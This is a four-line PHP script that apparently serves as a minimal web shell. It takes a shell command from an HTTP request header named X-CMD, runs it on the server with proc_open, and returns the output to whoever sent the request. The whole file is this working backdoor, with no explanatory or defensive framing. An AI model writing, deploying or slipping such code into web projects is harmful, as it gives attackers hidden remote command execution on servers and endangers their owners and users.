<?php
$c = $_SERVER['HTTP_X_CMD'];
$p = proc_open($c, array(1 => array('pipe', 'w')), $io);
echo stream_get_contents($io[1]);
